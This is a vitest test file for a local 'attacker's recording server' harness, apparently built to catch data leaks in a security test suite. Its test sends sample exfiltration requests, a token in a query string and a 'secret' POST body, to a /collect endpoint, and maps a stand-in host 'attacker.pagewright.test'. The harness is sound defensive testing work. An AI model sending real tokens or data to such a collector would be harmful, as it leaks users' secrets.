/** The attacker's recording server (tests/harness/recording-server.ts) records every request and answers "ok". */
import { afterEach, describe, expect, it } from 'vitest';
import { RecordingServer } from '../harness/recording-server';

describe('RecordingServer', () => {
  const server = new RecordingServer();
  afterEach(() => server.stop());

  it('records method, url, host, headers and body of every request, preflights too, and answers 200 "ok"', async () => {
    const origin = await server.start();
    expect(origin).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(server.originFor('attacker.pagewright.test')).toBe(`http://attacker.pagewright.test:${server.port}`);
    expect(server.count()).toBe(0);

    const get = await fetch(`${origin}/collect?token=sk_live_1`);
    expect(get.status).toBe(200);
    expect(await get.text()).toBe('ok');
    expect(get.headers.get('access-control-allow-origin')).toBe('*');
    await (await fetch(`${origin}/collect`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-leak': 'yes' }, body: '{"data":"secret"}' })).text();
    await (await fetch(`${origin}/collect`, { method: 'OPTIONS' })).text();

    expect(server.count()).toBe(3);
    expect(server.requests[0]).toMatchObject({ method: 'GET', url: '/collect?token=sk_live_1', body: '', host: `127.0.0.1:${server.port}` });
    expect(server.requests[1]).toMatchObject({ method: 'POST', url: '/collect', body: '{"data":"secret"}', headers: { 'x-leak': 'yes' } });
    expect(server.requests[2]!.method).toBe('OPTIONS');
    await expect(server.waitForRequests(3)).resolves.toHaveLength(3);

    server.reset();
    expect(server.count()).toBe(0);
    expect(server.requests).toEqual([]);
  });
});
